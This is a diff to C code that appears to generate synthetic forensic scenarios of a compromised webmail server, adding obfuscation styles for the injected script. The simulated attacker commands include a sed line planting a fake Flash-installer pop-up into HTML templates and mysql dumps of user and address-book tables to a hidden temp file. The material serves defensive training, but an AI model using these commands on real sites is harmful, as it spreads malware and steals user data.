@@ -110,25 +110,26 @@ struct scenario {
 	bool owa;             /* the webmail hosts are Exchange Client Access servers */
 	bool bare;            /* users log in by bare names (the local part), as on a
 	                       * fleet whose IMAP store knows system or LDAP users */
+	enum tamper_style tamper; /* how the injected code is written */
 };
 static const struct scenario scenarios[] = {
-	{ "reference", true, false, false, false, 2007, 5, 4, V_NONE, false, false, false, false },
-	{ "clean", false, false, false, false, 2007, 5, 4, V_NONE, false, false, false, false },
-	{ "maillog-only", true, false, true, false, 2007, 5, 4, V_NONE, false, false, false, false },
-	{ "two-servers", true, true, false, false, 2007, 5, 4, V_NONE, false, false, false, false },
-	{ "pcapng-vlan", true, false, false, true, 2007, 5, 4, V_NONE, false, false, false, false },
-	{ "newyear", true, false, false, false, 2006, 12, 29, V_NONE, false, false, false, false },
-	{ "opened-only", true, false, false, false, 2007, 5, 4, V_OPENED, false, false, false, false },
-	{ "opened-only-cut", true, false, false, false, 2007, 5, 4, V_OPENED_CUT, false, false, false, false },
-	{ "post-shell", true, false, false, false, 2007, 5, 4, V_POST_SHELL, false, false, false, false },
-	{ "maillog-only-exfil", true, false, true, false, 2007, 5, 4, V_MAIL_EXFIL, false, false, false, false },
-	{ "role-spam", true, false, false, false, 2007, 5, 4, V_ROLE_SPAM, false, false, false, false },
-	{ "variety", true, false, false, false, 2007, 5, 4, V_NONE, true, false, false, false },
-	{ "variety-clean", false, false, false, false, 2007, 5, 4, V_NONE, true, false, false, false },
-	{ "roundcube", true, false, false, false, 2007, 5, 4, V_NONE, false, true, false, false },
-	{ "roundcube-logs", true, false, true, false, 2007, 5, 4, V_MAIL_EXFIL, false, true, false, false },
-	{ "owa-logs", true, false, true, false, 2007, 5, 4, V_NONE, false, false, true, false },
-	{ "bare-logins", true, false, false, false, 2007, 5, 4, V_NONE, false, false, false, true },
+	{ "reference", true, false, false, false, 2007, 5, 4, V_NONE, false, false, false, false, STYLE_WINDOW_OPEN },
+	{ "clean", false, false, false, false, 2007, 5, 4, V_NONE, false, false, false, false, STYLE_WINDOW_OPEN },
+	{ "maillog-only", true, false, true, false, 2007, 5, 4, V_NONE, false, false, false, false, STYLE_WINDOW_OPEN },
+	{ "two-servers", true, true, false, false, 2007, 5, 4, V_NONE, false, false, false, false, STYLE_CHARCODE },
+	{ "pcapng-vlan", true, false, false, true, 2007, 5, 4, V_NONE, false, false, false, false, STYLE_SPLIT_TAG },
+	{ "newyear", true, false, false, false, 2006, 12, 29, V_NONE, false, false, false, false, STYLE_ATOB },
+	{ "opened-only", true, false, false, false, 2007, 5, 4, V_OPENED, false, false, false, false, STYLE_WINDOW_OPEN },
+	{ "opened-only-cut", true, false, false, false, 2007, 5, 4, V_OPENED_CUT, false, false, false, false, STYLE_WINDOW_OPEN },
+	{ "post-shell", true, false, false, false, 2007, 5, 4, V_POST_SHELL, false, false, false, false, STYLE_WINDOW_OPEN },
+	{ "maillog-only-exfil", true, false, true, false, 2007, 5, 4, V_MAIL_EXFIL, false, false, false, false, STYLE_WINDOW_OPEN },
+	{ "role-spam", true, false, false, false, 2007, 5, 4, V_ROLE_SPAM, false, false, false, false, STYLE_WINDOW_OPEN },
+	{ "variety", true, false, false, false, 2007, 5, 4, V_NONE, true, false, false, false, STYLE_UNESCAPE },
+	{ "variety-clean", false, false, false, false, 2007, 5, 4, V_NONE, true, false, false, false, STYLE_WINDOW_OPEN },
+	{ "roundcube", true, false, false, false, 2007, 5, 4, V_NONE, false, true, false, false, STYLE_DOM_SCRIPT },
+	{ "roundcube-logs", true, false, true, false, 2007, 5, 4, V_MAIL_EXFIL, false, true, false, false, STYLE_WINDOW_OPEN },
+	{ "owa-logs", true, false, true, false, 2007, 5, 4, V_NONE, false, false, true, false, STYLE_WINDOW_OPEN },
+	{ "bare-logins", true, false, false, false, 2007, 5, 4, V_NONE, false, false, false, true, STYLE_CHAR_REFS },
 };
 #define SCENARIO_NAMES "reference, clean, maillog-only, two-servers, pcapng-vlan, newyear, opened-only, opened-only-cut, " \
 	"post-shell, maillog-only-exfil, role-spam, variety, variety-clean, roundcube, roundcube-logs, owa-logs, " \
@@ -140,6 +141,17 @@ static const struct scenario scenarios[] = {
 #define SH2 16
 #define SH404 32
 static void build_plan_v(const struct scenario *sc, bs_time E);
+
+/* The attacker's command that tampers the templates: the world's snippet
+ * before every </body>. */
+static const char *tamper_cmd(void)
+{
+	static struct buf b;
+	const char *snip = tamper_snippet();
+	buf_clear(&b);
+	buf_printf(&b, "sed -i 's|</body>|%.*s</body>|' ../templates/*.html", (int)(strlen(snip) - 1), snip);
+	return b.p;
+}
 
 static void build_plan(const struct scenario *sc, bs_time S, int days)
 {
@@ -182,8 +194,7 @@ static void build_plan(const struct scenario *sc, bs_time S, int days)
 	add(d1, A_SHELL, wm3, ATT_B, "id", ID, 0);
 	add(d1 + 2 * MIN, A_SHELL, wm3, ATT_B, "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Account FROM Users; SELECT Account, Email FROM Abook' > /tmp/.d.txt", "", 0);
 	add(d1 + 2 * MIN + 400000, A_DBREAD, wm3, 0, NULL, NULL, 1);
-	add(WS[wm3].tamper_on - 3 * BS_USEC, A_SHELL, wm3, ATT_B,
-		"sed -i 's|</body>|<script>window.open(\"http://update.flash-player.example.cn/install.exe\",\"_blank\",\"width=400,height=300\")</script></body>|' ../templates/*.html", "", 0);
+	add(WS[wm3].tamper_on - 3 * BS_USEC, A_SHELL, wm3, ATT_B, tamper_cmd(), "", 0);
 	add(E + 2 * DAY - 6 * HOUR, A_SHELL, wm3, ATT_A, "ls -la /tmp", LS, 0);
 	bs_time d2 = E + 3 * DAY - 15 * HOUR - 16 * MIN;
 	add(d2, A_SHELL, wm3, ATT_A, "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Email FROM Abook_old; SELECT EmailTo FROM Log_SendMail' >> /tmp/.d.txt", "", 0);
@@ -248,9 +259,7 @@ static void build_plan_v(const struct scenario *sc, bs_time E)
 		"", post ? SH(VIA_BODY) : 0);
 	add(d1 + 2 * MIN + 400000, A_DBREAD, wm3, 0, NULL, NULL, mx ? 1 : 4);
 	if (!mx)
-		add(w->tamper_on - 3 * BS_USEC, A_SHELL, wm3, ATT_B,
-			"sed -i 's|</body>|<script>window.open(\"http://update.flash-player.example.cn/install.exe\",\"_blank\",\"width=400,height=300\")</script></body>|' ../templates/*.html",
-			"", post ? SH(VIA_MULTIPART) : 0);
+		add(w->tamper_on - 3 * BS_USEC, A_SHELL, wm3, ATT_B, tamper_cmd(), "", post ? SH(VIA_MULTIPART) : 0);
 	add(E + 2 * DAY - 6 * HOUR, A_SHELL, wm3, ATT_A, "ls -la /tmp", LS, post ? SH(VIA_COOKIE) : 0);
 	if (post) {
 		/* A second shell; the admins find and remove the first; the
@@ -859,6 +868,7 @@ int gen_run(const struct gen_opts *o)
 	W.variety = sc->variety;
 	W.roundcube = sc->roundcube;
 	W.owa = sc->owa;
+	W.tamper = sc->tamper;
 	if (W.variety)
 		variety_init();
 	bool pcapng = sc->pcapng || o->pcapng_flag;
